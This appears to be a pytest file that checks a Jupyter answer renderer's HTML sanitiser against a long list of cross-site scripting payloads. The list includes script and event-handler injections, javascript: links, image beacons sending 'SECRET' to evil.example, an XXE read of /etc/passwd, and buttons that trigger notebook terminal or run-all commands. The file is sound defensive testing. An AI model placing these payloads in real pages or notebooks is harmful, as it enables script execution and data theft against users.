"""Answers that try to run a script, fetch something or leave their place in the page."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mibyan_jupyter.rendering import (
    LiveDocument,
    quiet_line,
    render_code,
    render_markdown,
    render_math,
    render_plain,
    wrap_answer,
)
from tests.rendering.allowed_html import faults, links

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=key><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://evil.example' ping='https://evil.example'>x</a>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<div style=position:fixed;inset:0 class=jp-Dialog>x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "<xss data-commandlinker-command=terminal:create-new>x</xss>",
    "<button data-commandlinker-command='notebook:run-all-cells'>x</button>",
    "<sub onclick=alert(1)>x</sub>",
    "<sub><script>alert(1)</script></sub>",
    "<kbd><sup><sub></kbd></sup></sub>",
    "<br onload=alert(1)>",
    "<sub <img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example\\x)",
    "[x](/api/contents?token=1)",
    "[x](#jp-main-dock-panel)",
    "[x](blob:https://evil.example/1)",
    "[x](https://a.b 'x\" onclick=\"alert(1)')",
    '[x](https://a.b"onclick="alert(1))',
    '[x](<https://a.b" onclick=alert(1) x=">)',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://evil.example/?d=SECRET)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x][1]\n\n[1]: https://evil.example/?d=SECRET",
    '![x" onerror="alert(1)](https://evil.example/x.png "t\\" onerror=\\"alert(1)")',
    "[![x](https://evil.example/p)](javascript:alert(1))",
    "![a ![b](https://evil.example/b)](https://evil.example/a)",
    "![x](https://[evil)",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "~~~<img src=x onerror=alert(1)>\n~~~",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>",
    "> <script>\n> alert(1)\n> </script>",
    "- [x] <img src=x onerror=alert(1)>",
    "a[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    'a[^"><script>]\n\n[^"><script>]: x',
    "$<img src=x onerror=alert(1)>$",
    "$$</div><script>alert(1)</script>$$",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "$\\style{position:fixed;background:url(https://evil.example)}{x}$",
    "$\\class{jp-Dialog}{x}$ $\\cssId{main}{x}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "$\\newcommand{\\frac}[2]{gone}$",
    "$\\bbox[url(https://evil.example)]{x}$",
    '<div class="mibyan-plain" style="position:fixed">',
    '"><div class="mibyan-code" ',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ud800<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</script>",
    "https://a.b/<script>alert(1)</script>",
    'https://a.b/"onmouseover="alert(1)',
    "{{7*7}} ${7*7} <%= 7*7 %>",
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_payload(payload: str) -> None:
    """No payload leaves a tag, attribute, class, id or scheme outside the allow-list."""
    embedded = f"Before\n\n{payload}\n\n- item {payload}\n\nAfter {payload} text."
    for source in (payload, embedded):
        assert faults(wrap_answer(render_markdown(source, payload), quiet_line(payload))) == []
        assert faults(render_plain(source)) == []
        assert faults(render_code(source, payload)) == []
        assert faults(render_math(source)) == []


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_payload_while_it_is_written(payload: str) -> None:
    """A payload cut off after any character is as harmless as the whole."""
    document = LiveDocument(payload)
    for character in f"{payload}\n\n{payload} text":
        document.append(character)
        frame = document.render()
        assert faults("".join(frame.settled) + frame.tail) == []


def test_every_link_of_the_corpus_is_disarmed() -> None:
    """Each link that does come out tells its target nothing about the notebook."""
    found = [link for payload in PAYLOADS for link in links(render_markdown(payload, "d"))]
    outside = [link for link in found if not link.get("href", "#").startswith("#")]
    assert outside
    assert {(link["rel"], link["target"]) for link in outside} == {
        ("noopener noreferrer nofollow", "_blank")
    }


def test_the_oracle_is_awake() -> None:
    """The oracle of these tests does object to raw payloads."""
    raw = [payload for payload in PAYLOADS if payload.startswith("<")]
    assert sum(bool(faults(payload)) for payload in raw) > 0.8 * len(raw)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*PAYLOADS, "\n", "\n\n", "> ", "- ", "**", "[", "](", "`", "$"])))
def test_mixed_payloads(pieces: list[str]) -> None:
    """Payloads run together in any order stay inside the allow-list."""
    assert faults(render_markdown("".join(pieces), "d")) == []
